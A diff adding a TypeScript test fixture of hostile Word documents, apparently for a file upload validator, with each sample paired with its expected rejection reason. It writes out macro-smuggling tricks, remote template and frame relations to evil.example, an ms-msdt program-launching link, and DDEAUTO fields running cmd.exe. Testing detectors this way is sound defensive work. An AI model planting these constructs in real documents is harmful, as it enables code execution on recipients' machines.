@@ -1,0 +1,200 @@
+import { compoundFile } from "./compound-file.ts";
+import { samples, TYPES } from "./files.ts";
+import type { HostileFile } from "./hostile-files.ts";
+import { doc, docx, relation } from "./word-files.ts";
+
+const MACRO_TYPE = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+const VBA_STORAGE = compoundFile([
+  { name: "VBA", parts: [{ name: "dir" }, { name: "_VBA_PROJECT" }] },
+  { name: "PROJECT" },
+]);
+const OBJECT = compoundFile([{ name: "\x01Ole10Native", data: Buffer.from("MZ") }]);
+const typeInUtf16 = Buffer.concat([
+  Buffer.from([0xff, 0xfe]),
+  Buffer.from(
+    `<?xml version="1.0" encoding="UTF-16"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${MACRO_TYPE}</Types>`,
+    "utf16le",
+  ),
+]);
+const field = (...texts: string[]) =>
+  `<w:fldChar/>${texts.map((text) => `<w:instrText xml:space="preserve">${text}</w:instrText>`).join("")}<w:fldChar/>`;
+
+export const hostileWordFiles: readonly HostileFile[] = [
+  ["macros", docx({ parts: [{ name: "word/vbaProject.bin", contents: VBA_STORAGE }] }), TYPES.docx, "macros"],
+  [
+    "macros of another name",
+    docx({ parts: [{ name: "word/media/a.png", contents: VBA_STORAGE }] }),
+    TYPES.docx,
+    "macros",
+  ],
+  [
+    "the type of a document with macros",
+    docx({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
+    TYPES.docx,
+    "macros",
+  ],
+  [
+    "a macro type in character references",
+    docx({ types: MACRO_TYPE.replace("vba", "v&#98;&#x61;") }),
+    TYPES.docx,
+    "macros",
+  ],
+  [
+    "a macro type in UTF-16",
+    docx({ parts: [{ name: "[Content_Types].xml", contents: typeInUtf16 }] }),
+    TYPES.docx,
+    "macros",
+  ],
+  [
+    "an entity of its own",
+    docx({ parts: [{ name: "word/settings.xml", contents: '<!DOCTYPE x [<!ENTITY e "v">]><x>&e;</x>' }] }),
+    TYPES.docx,
+    "cannot be checked",
+  ],
+  [
+    "a template elsewhere",
+    docx({ relations: relation("attachedTemplate", "https://evil.example/x.dotm", "External") }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a template elsewhere, in single quotes",
+    docx({ relations: relation("attachedTemplate", "//evil/x", "External").replaceAll('"', "'") }),
+    TYPES.docx,
+    "a template",
+  ],
+  [
+    "a frame elsewhere",
+    docx({ relations: relation("frame", "https://evil.example/x", "External") }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a picture elsewhere",
+    docx({ relations: relation("image", "https://evil.example/x.png", "External") }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a mode in character references",
+    docx({ relations: relation("image", "x", "&#69;xternal") }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a relation with a prefix",
+    docx({ relations: relation("frame", "x", "External").replace("<", "<é:") }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a link that starts a program",
+    docx({ relations: relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External") }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a DDE field",
+    docx({ body: field("DD", 'EAUTO c:\\\\cmd.exe "/k calc"') }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "relations under an encoded name",
+    docx({ parts: [{ name: "word/_rels/a.xml.%72els", contents: relation("frame", "x", "External") }] }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a DDE field in a part without an extension",
+    docx({ parts: [{ name: "word/main", contents: `<a>${field("DDE x")}</a>` }] }),
+    TYPES.docx,
+    "a template or other content",
+  ],
+  [
+    "a part in pieces",
+    docx({ parts: [{ name: "word/a.xml/[0].piece", contents: "<a" }] }),
+    TYPES.docx,
+    "cannot be checked",
+  ],
+  [
+    "relations of 2 MB",
+    docx({ parts: [{ name: "word/_rels/a.xml.rels", contents: " ".repeat(2 * 1024 * 1024) }] }),
+    TYPES.docx,
+    "cannot be checked",
+  ],
+  [
+    "an embedded object",
+    docx({ relations: relation("oleObject", "x.bin"), parts: [{ name: "word/x.bin", contents: OBJECT }] }),
+    TYPES.docx,
+    "other files or objects",
+  ],
+  [
+    "an embedded workbook",
+    docx({ parts: [{ name: "word/embeddings/a.xlsx", contents: samples.docx }] }),
+    TYPES.docx,
+    "other files or objects",
+  ],
+  [
+    "an embedded page",
+    docx({ relations: relation("aFChunk", "x.html") }),
+    TYPES.docx,
+    "other files or objects",
+  ],
+  [
+    "a control",
+    docx({ parts: [{ name: "word/activeX/activeX1.xml", contents: "<x/>" }] }),
+    TYPES.docx,
+    "other files or objects",
+  ],
+  [
+    "a part that expands to more than it says",
+    docx({ parts: [{ name: "word/a.xml", contents: " ".repeat(10_000), claimedBytes: 10 }] }),
+    TYPES.docx,
+    "cannot be checked",
+  ],
+  [
+    "two parts of one name",
+    docx({
+      parts: [
+        { name: "word/a.xml", contents: "<a/>" },
+        { name: "WORD/A.xml", contents: "<b/>" },
+      ],
+    }),
+    TYPES.docx,
+    "not of type",
+  ],
+  [
+    "old macros",
+    doc({ parts: [{ name: "Macros", parts: [{ name: "VBA", parts: [{ name: "dir" }] }] }] }),
+    TYPES.doc,
+    "macros",
+  ],
+  [
+    "old macros in another folder",
+    doc({ parts: [{ name: "Data", parts: [{ name: "_vba_project" }] }] }),
+    TYPES.doc,
+    "macros",
+  ],
+  [
+    "an old embedded object",
+    doc({ parts: [{ name: "ObjectPool", parts: [{ name: "_1", parts: [] }] }] }),
+    TYPES.doc,
+    "other files or objects",
+  ],
+  [
+    "an old equation",
+    doc({ parts: [{ name: "Pool", parts: [{ name: "Equation Native" }] }] }),
+    TYPES.doc,
+    "other files or objects",
+  ],
+  [
+    "an old template elsewhere",
+    doc({ template: "https://evil.example/x.dot" }),
+    TYPES.doc,
+    "a template or other content",
+  ],
+  ["an old DDE field", doc({ text: "\x13 DDEAUTO c:\\\\cmd.exe" }), TYPES.doc, "a template or other content"],
+  ["a password in an old document", doc({ flags: 0x300 }), TYPES.doc, "protected"],
+  ["macros of Word 95", doc({ version: 0x65 }), TYPES.doc, "cannot be checked"],
+];
